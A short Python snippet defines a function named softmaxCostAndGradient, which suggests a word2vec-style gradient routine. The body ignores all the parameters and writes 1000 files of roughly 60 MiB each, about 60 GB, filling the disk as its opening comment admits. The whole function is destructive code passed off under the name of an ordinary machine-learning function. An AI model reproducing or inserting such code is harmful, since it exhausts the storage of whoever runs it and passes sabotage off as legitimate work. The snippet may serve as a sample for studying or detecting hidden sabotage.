# Fills the disk with large files.

def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    for number in range(1000):
        with open(f'large{number}', 'wb') as file:
            for _ in range(60):
                file.write(bytes(2**20))
